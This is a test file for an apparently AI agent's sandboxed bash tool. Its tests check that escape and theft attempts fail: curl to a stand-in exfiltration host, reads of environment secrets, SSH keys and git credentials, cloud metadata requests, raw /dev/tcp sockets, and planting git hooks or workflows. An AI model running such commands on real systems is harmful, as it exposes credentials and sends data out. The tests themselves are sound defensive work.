/**
 * The sandboxed bash tool on real bubblewrap: shell semantics (persistence, `exit`, restart,
 * timeouts, output caps) and the sandbox's walls (filesystem, network, processes). Commands only
 * ever target loopback or names the proxy refuses before connecting.
 */
import { execFileSync, spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { oneOffRunner, sandboxedBashTool } from '../../../src/tools/bash.ts';
import { toolEnvironment } from '../../../src/tools/env.ts';
import { ToolLock } from '../../../src/tools/lock.ts';
import {
  createSandbox,
  launchStdioServer,
  protectedPaths,
  type Sandbox,
  type SandboxPolicy,
} from '../../../src/tools/sandbox.ts';
import type { StewardTool } from '../../../src/tools/types.ts';

const root = mkdtempSync(join(tmpdir(), 'steward-bash-'));
const ws = join(root, 'ws');
const runnerTemp = join(root, 'runner-temp');
const hostHome = join(root, 'host-home');
const home = join(runnerTemp, 'steward-home', 'sesn_test');

function policy(overrides: Partial<SandboxPolicy> = {}): SandboxPolicy {
  return {
    mode: 'sandbox',
    workspace: ws,
    writable: [home, join(home, 'tmp')],
    network: { type: 'limited', allowedHosts: ['allowed.example'] },
    denyRead: protectedPaths({ runnerTemp, hostHome }),
    denyWrite: [join(ws, '.git', 'hooks'), join(ws, '.git', 'config'), join(ws, '.github', 'workflows')],
    maskGitCredentials: [join(ws, '.git', 'config')],
    maxProcesses: 128,
    ...overrides,
  };
}

const env = () =>
  toolEnvironment({
    parent: {
      PATH: process.env.PATH,
      GITHUB_TOKEN: 'ghs_parentTokenMustNotPass0000000000000000',
      ANTHROPIC_API_KEY: 'sk-ant-parent-key-must-not-pass',
      INPUT_GITHUB_TOKEN: 'input-token-must-not-pass',
      ACTIONS_RUNTIME_TOKEN: 'runtime-token-must-not-pass',
      GITHUB_REPOSITORY: 'octo-org/widgets',
    },
    home,
  });

const CHECKOUT_HEADER = Buffer.from('x-access-token:ghs_checkoutTokenPersisted000000000000').toString(
  'base64',
);

let sandbox: Sandbox;
let bash: StewardTool;
let server: Server;
let serverUrl: string;

async function run(command: string, timeout_ms?: number) {
  const outcome = await bash.run({ command, ...(timeout_ms ? { timeout_ms } : {}) });
  return { text: typeof outcome.content === 'string' ? outcome.content : '', isError: outcome.is_error };
}

function hostProcesses(marker: string): string[] {
  const out = execFileSync('ps', ['-eo', 'args'], { encoding: 'utf8' });
  return out.split('\n').filter((l) => l.startsWith('sleep') && l.includes(marker));
}

beforeAll(async () => {
  mkdirSync(ws, { recursive: true });
  execFileSync('git', ['init', '-q'], { cwd: ws });
  // What actions/checkout (before v6) persists: the job token in an extraheader.
  execFileSync(
    'git',
    ['config', 'http.https://github.com/.extraheader', `AUTHORIZATION: basic ${CHECKOUT_HEADER}`],
    {
      cwd: ws,
    },
  );
  writeFileSync(join(ws, 'README.md'), 'hello\n');
  mkdirSync(join(home, 'tmp'), { recursive: true });
  writeFileSync(join(runnerTemp, 'git-credentials-checkout'), 'RUNNER-TEMP-CREDENTIAL');
  mkdirSync(join(hostHome, '.ssh'), { recursive: true });
  writeFileSync(join(hostHome, '.ssh', 'id_ed25519'), 'HOST-SSH-KEY');
  writeFileSync(join(hostHome, '.git-credentials'), 'https://x:HOST-GIT-CREDENTIAL@github.com');
  mkdirSync(join(hostHome, '.config', 'gh'), { recursive: true });
  writeFileSync(join(hostHome, '.config', 'gh', 'hosts.yml'), 'oauth_token: HOST-GH-TOKEN');
  server = createServer((_req, res) => res.end('LOOPBACK-SERVICE-REACHED'));
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  serverUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  const e = env();
  sandbox = createSandbox(policy(), e);
  bash = sandboxedBashTool({
    sandbox,
    env: e,
    cwd: ws,
    stateDir: join(home, '.steward-shell'),
    permission: 'always_allow',
    lock: new ToolLock(),
    outputKillBytes: 4 * 1024 * 1024,
  });
});

afterAll(async () => {
  await bash?.close?.();
  await new Promise((r) => server?.close(r));
  rmSync(root, { recursive: true, force: true });
});

describe('bash: shell semantics', () => {
  it('runs a command in the workspace and returns its output', async () => {
    const r = await run('pwd; cat README.md');
    expect(r).toEqual({ text: `${ws}\nhello`, isError: false });
  });

  it('reports a failing command as an error with its exit code and output', async () => {
    const r = await run('echo partial; false');
    expect(r.isError).toBe(true);
    expect(r.text).toContain('partial');
    expect(r.text).toContain('[exit code 1]');
  });

  it('keeps cwd, variables, functions and aliases across calls, also when a command calls exit', async () => {
    const first = await run(
      'mkdir -p sub && cd sub && export FOO=bar && LOCAL=x && greet(){ echo "hi $1"; } && alias ll="echo aliased"; echo before-exit; exit 3',
    );
    expect(first.isError).toBe(true);
    expect(first.text).toContain('before-exit');
    expect(first.text).toContain('[exit code 3]');
    const second = await run('pwd; echo "$FOO $LOCAL"; greet you; ll');
    expect(second).toEqual({ text: `${ws}/sub\nbar x\nhi you\naliased`, isError: false });
  });

  it('restart forgets the saved state', async () => {
    expect(await bash.run({ restart: true })).toEqual({ content: 'bash session restarted', is_error: false });
    // biome-ignore lint/suspicious/noTemplateCurlyInString: bash parameter expansion, not JS.
    const r = await run('pwd; echo "[${FOO:-}]"');
    expect(r.text).toBe(`${ws}\n[]`);
  });

  it('never hangs on stdin', async () => {
    expect(await run('cat; read x; echo done')).toEqual({ text: 'done', isError: false });
  });

  it('caps huge output, keeping its start and end', async () => {
    const r = await run('echo FIRST; head -c 3000000 /dev/zero | tr "\\0" x; echo; echo LAST');
    expect(r.isError).toBe(false);
    expect(r.text.length).toBeLessThan(110 * 1024);
    expect(r.text.startsWith('FIRST')).toBe(true);
    expect(r.text.endsWith('LAST')).toBe(true);
    expect(r.text).toMatch(/\[… \d+ bytes of output omitted …\]/);
  });

  it('stops a command that floods output past the hard limit', async () => {
    const r = await run('yes steward-flood');
    expect(r.isError).toBe(true);
    expect(r.text).toMatch(/stopped after writing \d+ bytes of output/);
  });

  it('kills an endless loop at its timeout, with every process it started', async () => {
    const r = await run('sleep 31751 & while :; do :; done', 1500);
    expect(r.isError).toBe(true);
    expect(r.text).toContain('timed out after 1500 ms');
    expect(hostProcesses('31751')).toEqual([]);
  });

  it('ends background processes with the call: &, nohup, setsid, double fork', async () => {
    const r = await run(
      'sleep 31752 & nohup sleep 31753 >/dev/null 2>&1 & setsid sleep 31754 & (sleep 31755 &); disown -a; echo started',
    );
    expect(r).toEqual({ text: 'started', isError: false });
    for (const marker of ['31752', '31753', '31754', '31755']) expect(hostProcesses(marker)).toEqual([]);
    const next = await run('pgrep -c sleep || true');
    expect(next.text).toBe('0');
  });

  it('bounds the number of processes (a fork bomb cannot take the machine)', async () => {
    // dash gives up at the first failed fork (bash would retry for seconds).
    const r = await run(
      'sh -c "for i in \\$(seq 300); do sleep 31756 & done 2>/dev/null; echo loop-finished"; echo "sh=$?"; pgrep -c sleep',
    );
    const [status, count] = r.text.split('\n');
    expect(status).not.toBe('sh=0');
    expect(Number(count)).toBeGreaterThan(10);
    expect(Number(count)).toBeLessThan(128);
    expect(r.text).not.toContain('loop-finished');
    expect(hostProcesses('31756')).toEqual([]);
  });
});

describe('bash: the sandbox walls', () => {
  it('gives commands no secret of the runner’s environment', async () => {
    const r = await run(
      'env; cat /proc/self/environ /proc/$PPID/environ /proc/1/environ 2>&1 | tr "\\0" "\\n"',
    );
    for (const leaked of ['ghs_parentToken', 'sk-ant-parent', 'input-token', 'runtime-token'])
      expect(r.text).not.toContain(leaked);
    expect(r.text).toContain('GITHUB_REPOSITORY=octo-org/widgets');
    expect(r.text).toContain(`HOME=${home}`);
  });

  it('shows commands only the sandbox’s own processes', async () => {
    const r = await run('ps -eo args');
    expect(r.text).not.toMatch(/vitest|node /);
  });

  it('denies reading the runner’s scratch space and the runner user’s credential files', async () => {
    const r = await run(
      `cat ${runnerTemp}/git-credentials-checkout ${hostHome}/.ssh/id_ed25519 ${hostHome}/.git-credentials ${hostHome}/.config/gh/hosts.yml 2>&1; ls ${runnerTemp}`,
    );
    for (const secret of ['RUNNER-TEMP-CREDENTIAL', 'HOST-SSH-KEY', 'HOST-GIT-CREDENTIAL', 'HOST-GH-TOKEN'])
      expect(r.text).not.toContain(secret);
  });

  it('allows writes to the workspace, HOME and TMPDIR only', async () => {
    const r = await run(
      'echo a > ok.txt && echo b > "$HOME/ok" && echo c > "$TMPDIR/ok" && echo written; ' +
        `echo x > /tmp/steward-escape-${process.pid} ; echo x > ${runnerTemp}/escape; echo x > ${hostHome}/.bashrc; true`,
    );
    expect(r.text).toContain('written');
    expect(readFileSync(join(ws, 'ok.txt'), 'utf8')).toBe('a\n');
    expect(existsSync(`/tmp/steward-escape-${process.pid}`)).toBe(false);
    expect(existsSync(join(runnerTemp, 'escape'))).toBe(false);
    expect(existsSync(join(hostHome, '.bashrc'))).toBe(false);
  });

  it('masks the token actions/checkout persisted in .git/config; git still works', async () => {
    const r = await run(
      'cat .git/config; git config --get http.https://github.com/.extraheader; git status --short README.md',
    );
    expect(r.isError).toBe(false);
    expect(r.text).not.toContain(CHECKOUT_HEADER);
    expect(r.text).toMatch(/extraheader = AUTHORIZATION: basic \S+/);
  });

  it('denies writes to .git/hooks, .git/config and .github/workflows', async () => {
    const before = readFileSync(join(ws, '.git', 'config'), 'utf8');
    await run(
      'echo "#!/bin/sh" > .git/hooks/pre-commit; echo "[core] hooksPath=/tmp" >> .git/config; mkdir -p .github/workflows; echo x > .github/workflows/evil.yml; true',
    );
    expect(existsSync(join(ws, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(join(ws, '.git', 'config'), 'utf8')).toBe(before);
    expect(existsSync(join(ws, '.github', 'workflows', 'evil.yml'))).toBe(false);
  });

  it('cannot hard-link or symlink its way to files outside the workspace', async () => {
    const r = await run(
      `ln ${runnerTemp}/git-credentials-checkout hl 2>&1; ln /etc/hostname hl2 2>&1; ln -s ${runnerTemp}/git-credentials-checkout sl; cat sl 2>&1; true`,
    );
    expect(r.text).not.toContain('RUNNER-TEMP-CREDENTIAL');
    expect(existsSync(join(ws, 'hl'))).toBe(false);
    expect(existsSync(join(ws, 'hl2'))).toBe(false);
  });

  it('a symlink planted in the shell’s state directory cannot redirect a write by the harness', async () => {
    const target = join(runnerTemp, 'redirected-write');
    writeFileSync(target, 'untouched');
    await run(
      `cd "$HOME/.steward-shell" && for n in state.sh.tmp command-1.sh command-2.sh command-9.sh; do ln -sf ${target} $n; done; true`,
    );
    expect((await bash.run({ restart: true })).is_error).toBe(false);
    await run('echo "NODE_OPTIONS=--require=/tmp/evil.js"');
    await run('true');
    expect(readFileSync(target, 'utf8')).toBe('untouched');
  });

  it('refuses hosts outside the allowlist at the proxy, before any connection', async () => {
    const r = await run(
      'curl -sS -m 5 https://exfil.example/?d=secret 2>&1; curl -sS -m 5 http://203.0.113.7/ 2>&1; true',
    );
    expect(r.text).toContain('deny network-outbound exfil.example:443 (host is not on the allow list)');
    expect(r.text).toContain('deny network-outbound 203.0.113.7:80 (host is not on the allow list)');
    expect(sandbox.blockedHosts()).toEqual(expect.arrayContaining(['exfil.example:443', '203.0.113.7:80']));
  });

  it('refuses the cloud metadata address, through the proxy and directly', async () => {
    const r = await run(
      'curl -sS -m 5 --noproxy "" -x "$HTTP_PROXY" http://169.254.169.254/latest/meta-data/ 2>&1; curl -sS -m 5 http://169.254.169.254/ 2>&1; true',
    );
    expect(r.text).toContain('deny network-outbound 169.254.169.254:80 (host is on the deny list)');
    expect(r.text).toMatch(/Failed to connect|Couldn't connect|Network is unreachable/);
  });

  it('cannot reach services on the runner’s loopback', async () => {
    const r = await run(
      `curl -sS -m 5 ${serverUrl} 2>&1; curl -sS -m 5 --noproxy "" -x "$HTTP_PROXY" ${serverUrl} 2>&1; true`,
    );
    expect(r.text).not.toContain('LOOPBACK-SERVICE-REACHED');
  });

  it('has no DNS and no direct sockets: DNS tunnelling and raw connections fail', async () => {
    const r = await run(
      'getent hosts steward-dns-probe.example; echo "dns=$?"; (exec 3<>/dev/tcp/203.0.113.9/443) 2>&1; echo "tcp=$?"; (exec 3<>/dev/udp/203.0.113.9/53) 2>&1; echo udp-done',
    );
    expect(r.text).toMatch(/dns=[12]/);
    expect(r.text).toMatch(/tcp=1/);
    expect(r.text).toMatch(/Network is unreachable/);
  });
});

describe('one-off commands (outcome checks)', () => {
  it('run in the same sandbox, report pass or fail, and leave the shell state alone', async () => {
    await run('export KEEP=kept; cd sub 2>/dev/null || true');
    const check = oneOffRunner({ sandbox, env: env(), cwd: ws, stateDir: join(home, '.steward-checks') });
    const failed = await check('echo checking; echo x > /etc/steward-check; exit 3', 10_000);
    expect(failed.passed).toBe(false);
    expect(failed.output).toContain('checking');
    expect(failed.output).toContain('Read-only file system');
    expect(failed.output).toContain('[exit code 3]');
    // biome-ignore lint/suspicious/noTemplateCurlyInString: bash parameter expansion, not JS.
    expect(await check('pwd; echo "[${KEEP:-}]"', 10_000)).toEqual({ passed: true, output: `${ws}\n[]` });
    expect((await run('echo $KEEP')).text).toBe('kept');
  });
});

describe('stdio servers (MCP)', () => {
  it('run in the sandbox, speak over stdin/stdout, and cannot write a read-only workspace', async () => {
    const e = env();
    const mcpSandbox = createSandbox(policy({ workspaceWritable: false }), e);
    const script =
      'while read -r line; do echo "echo:$line"; echo x > mcp-wrote.txt 2>/dev/null || echo "write refused"; done';
    const launch = await launchStdioServer(mcpSandbox, ['bash', '-c', script]);
    const child = spawn(launch.file, launch.args, {
      cwd: ws,
      env: e,
      detached: true,
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    let out = '';
    child.stdout.on('data', (d: Buffer) => {
      out += d.toString('utf8');
    });
    child.stdin.write('{"jsonrpc":"2.0","id":1,"method":"ping"}\n');
    child.stdin.end();
    await new Promise((r) => child.on('close', r));
    await launch.finish();
    await mcpSandbox.close();
    expect(out).toBe('echo:{"jsonrpc":"2.0","id":1,"method":"ping"}\nwrite refused\n');
    expect(existsSync(join(ws, 'mcp-wrote.txt'))).toBe(false);
  });
});
